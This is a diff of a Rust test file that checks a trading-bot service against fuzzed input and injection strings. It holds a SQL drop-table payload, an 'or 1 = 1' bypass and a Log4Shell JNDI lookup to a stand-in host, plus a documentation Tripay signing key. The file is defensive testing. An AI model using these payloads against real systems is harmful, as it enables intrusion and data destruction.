@@ -1,4 +1,4 @@
-//! What the fuzzing targets in `tests/fuzz` have found interesting, sent to the functions as they are, with the database behind them.
+//! Inputs that fuzzing in `tests/fuzz` found interesting, and other hostile input, sent to the functions and the database.
 
 use std::collections::BTreeMap;
 use std::fs::File;
@@ -18,13 +18,13 @@ use crate::support::world::{Answer, World, new_bot};
 
 const OVERSOLD_RSI: &str = "0190e000-0000-7000-8000-000000000001";
 
-/// The key that the target signs with, of Tripay's documentation.
+/// Key that the fuzzing target signs with, from Tripay's documentation.
 const TRIPAY_PRIVATE_KEY: &str = "ytf6ooi2gmlNPfpchd94jDOk8hRWOu";
 
-/// At once: each waits for its instance.
-const WIDTH: usize = 8;
+/// Number of concurrent requests.
+const CONCURRENCY: usize = 8;
 
-/// Inputs of a target by their names: files that a person has named, and the archive of those that the fuzzer has found.
+/// Names and inputs of a fuzzing target's corpus: files named by a person, and an archive of those that the fuzzer found.
 fn corpus(target: &str) -> Vec<(String, Vec<u8>)> {
     let folder = workspace().join("tests/fuzz/corpus").join(target);
     let mut found = ZipArchive::new(File::open(folder.with_extension("zip")).unwrap()).unwrap();
@@ -40,7 +40,7 @@ fn corpus(target: &str) -> Vec<(String, Vec<u8>)> {
     inputs
 }
 
-/// Sends each input of a corpus; whatever it is, the answer is no mistake of ours.
+/// Sends each input of a corpus; no response may be a server error.
 async fn send_all<F: Future<Output = Option<Answer>>>(
     target: &str,
     send: impl Fn(Vec<u8>) -> F,
@@ -49,7 +49,7 @@ async fn send_all<F: Future<Output = Option<Answer>>>(
         let answer = send(input);
         async { answer.await.map(|answer| (file, answer)) }
     });
-    let answers: Vec<_> = sent.buffer_unordered(WIDTH).filter_map(async |answer| answer).collect().await;
+    let answers: Vec<_> = sent.buffer_unordered(CONCURRENCY).filter_map(async |answer| answer).collect().await;
     for (file, answer) in &answers {
         assert!(answer.status.as_u16() < 500, "{file}: {answer:?}");
     }
@@ -57,7 +57,7 @@ async fn send_all<F: Future<Output = Option<Answer>>>(
 }
 
 #[tokio::test]
-async fn nothing_that_anybody_sends_is_a_mistake_of_ours_or_breaks_a_rule() {
+async fn no_input_causes_a_server_error_or_breaks_a_database_rule() {
     let world = World::with(BTreeMap::from([("TRIPAY_PRIVATE_KEY".into(), TRIPAY_PRIVATE_KEY.into())])).await;
     let user = world.sign_in("pro@nofomo.test").await;
     let bot = world.bot_of(PRO).await;
@@ -77,7 +77,7 @@ async fn nothing_that_anybody_sends_is_a_mistake_of_ours_or_breaks_a_rule() {
         let headers = [("content-type", content_type)];
         let answers =
             send_all(target, async |body| Some(world.send_bytes(Method::POST, path, &headers, body).await)).await;
-        // It does not send again: whatever it says is kept.
+        // Freqtrade does not repeat a request, so every event is accepted.
         assert!(answers.iter().all(|(_, answer)| answer.status == 200 && answer.text == "{}"), "{answers:?}");
     }
 
@@ -97,7 +97,7 @@ async fn nothing_that_anybody_sends_is_a_mistake_of_ours_or_breaks_a_rule() {
     });
     assert!(sources.await.iter().any(|(_, answer)| answer.status == 200), "some are strategies");
 
-    // As the target has it: the first byte says whether Tripay has signed the rest, or the header comes first.
+    // As in the fuzzing target: if the lowest bit of the first byte is set, the rest is signed; otherwise it begins with the header.
     let delivered = send_all("callback", async |data| {
         let (first, rest) = data.split_first()?;
         let (signature, body) = if first & 1 == 1 {
@@ -107,7 +107,7 @@ async fn nothing_that_anybody_sends_is_a_mistake_of_ours_or_breaks_a_rule() {
             let end = rest.iter().position(|byte| *byte == b'\n').unwrap_or(rest.len());
             (String::from_utf8(rest[..end].to_vec()).ok()?, rest.get(end + 1..).unwrap_or_default())
         };
-        // What HTTP itself does not take never arrives.
+        // An invalid header value cannot be sent.
         reqwest::header::HeaderValue::from_str(&signature).ok()?;
         let headers = [("x-callback-signature", signature.as_str()), ("x-callback-event", "payment_status")];
         Some(world.send_bytes(Method::POST, "/callbacks/tripay", &headers, body.to_vec()).await)
@@ -119,14 +119,14 @@ async fn nothing_that_anybody_sends_is_a_mistake_of_ours_or_breaks_a_rule() {
         reqwest::header::HeaderValue::from_str(&token).ok()?;
         Some(world.send(Method::GET, "/portfolio", &[("authorization", &token)], "").await)
     });
-    assert!(tokens.await.iter().all(|(_, answer)| answer.status == 401), "nobody here signed them");
+    assert!(tokens.await.iter().all(|(_, answer)| answer.status == 401), "no token is signed by this issuer");
 
     let report = verify_migrations(server().await, &world.database.url("postgres"), &migrations()).await.unwrap();
     assert!(report.differences.is_empty(), "{report}");
 }
 
-/// What would be an order to a database, a shell, a template, a terminal or a log, were it not taken for what it is.
-const WORDS: [&str; 8] = [
+/// Texts with a meaning to a database, a shell, a template, a terminal, a log or a spreadsheet.
+const INJECTION_TEXTS: [&str; 8] = [
     "'); drop table public.bots; --",
     "\" or 1 = 1 --",
     "${jndi:ldap://x.test/a} {{7*7}} %n%s",
@@ -138,39 +138,39 @@ const WORDS: [&str; 8] = [
 ];
 
 #[tokio::test]
-async fn words_that_mean_something_elsewhere_are_words() {
+async fn injection_texts_are_stored_as_text() {
     let world = World::new().await;
     let user = world.sign_in("enterprise@nofomo.test").await;
     let owner = world.database.owner().await;
     let before: usize = owner.text("select count(*) from public.bots").await.parse().unwrap();
-    for words in WORDS {
-        let mut bot = new_bot(words);
-        bot["strategy"] = words.into();
-        bot["metadata"] = serde_json::json!({ words: words });
-        let key: String = words.chars().filter(char::is_ascii).collect();
+    for text in INJECTION_TEXTS {
+        let mut bot = new_bot(text);
+        bot["strategy"] = text.into();
+        bot["metadata"] = serde_json::json!({ text: text });
+        let key: String = text.chars().filter(char::is_ascii).collect();
         let answer = world.post_with("/bots", &user, &[("idempotency-key", &key)], &bot.to_string()).await;
-        assert_eq!(answer.status, 201, "{words}: {answer:?}");
-        assert_eq!(answer.json()["name"], words);
+        assert_eq!(answer.status, 201, "{text}: {answer:?}");
+        assert_eq!(answer.json()["name"], text);
         let stored =
             "select count(*)::text from public.bots where name = $1 and strategy = $1 and metadata ->> $1 = $1";
-        assert_eq!(owner.rows(stored, &[&words]).await.unwrap()[0].get::<_, String>(0), "1", "{words}");
-        // Where an id should be, nothing is found.
-        let path: String = url::form_urlencoded::byte_serialize(words.as_bytes()).collect();
+        assert_eq!(owner.rows(stored, &[&text]).await.unwrap()[0].get::<_, String>(0), "1", "{text}");
+        // In place of an id the text is not found or invalid.
+        let path: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
         for route in ["/bots/{}/start", "/bots/{}/trades", "/strategies/{}/publish", "/freqtrade/{}"] {
             let answer = world.post(&route.replace("{}", &path), &user, &serde_json::json!({})).await;
-            assert!([404, 422].contains(&answer.status.as_u16()), "{route} {words}: {answer:?}");
+            assert!([404, 422].contains(&answer.status.as_u16()), "{route} {text}: {answer:?}");
         }
     }
     let after: usize = owner.text("select count(*) from public.bots").await.parse().unwrap();
-    assert_eq!(after, before + WORDS.len());
-    // A line stays a line, and no word got into one.
+    assert_eq!(after, before + INJECTION_TEXTS.len());
+    // Every line of the log is still JSON, and none contains such a text.
     let log = world.log();
     assert!(log.lines().all(|line| serde_json::from_str::<serde_json::Value>(line).is_ok()), "{log}");
-    assert!(WORDS.iter().all(|words| !log.contains(words)), "{log}");
+    assert!(INJECTION_TEXTS.iter().all(|text| !log.contains(text)), "{log}");
 }
 
 #[tokio::test]
-async fn a_body_that_is_too_much_is_refused_by_its_form() {
+async fn an_excessive_body_is_refused() {
     let world = World::new().await;
     let user = world.sign_in("pro@nofomo.test").await;
     let nested = |open: &str, close: &str, depth: usize| format!("{}1{}", open.repeat(depth), close.repeat(depth));
@@ -189,15 +189,15 @@ async fn a_body_that_is_too_much_is_refused_by_its_form() {
         let answer = world.post_with("/bots", &user, &[], &body).await;
         let start: String = body.chars().take(60).collect();
         assert!(statuses.contains(&answer.status.as_u16()), "{start}: {answer:?}");
-        assert!(answer.text.len() < 100_000, "{start}: no echo");
+        assert!(answer.text.len() < 100_000, "{start}: the body is not repeated");
     }
 }
 
-/// What SECURITY.md calls a test is one.
+/// The tests that SECURITY.md names exist.
 #[test]
-fn every_attack_that_is_told_of_has_its_test() {
-    let told = std::fs::read_to_string(workspace().join("SECURITY.md")).unwrap();
-    let named: Vec<_> = told.split('`').filter(|code| code.contains("::") && !code.contains(' ')).collect();
+fn every_attack_in_the_security_document_has_its_test() {
+    let document = std::fs::read_to_string(workspace().join("SECURITY.md")).unwrap();
+    let named: Vec<_> = document.split('`').filter(|code| code.contains("::") && !code.contains(' ')).collect();
     assert!(named.len() > 20);
     for name in named {
         let (module, function) = name.rsplit_once("::").unwrap();
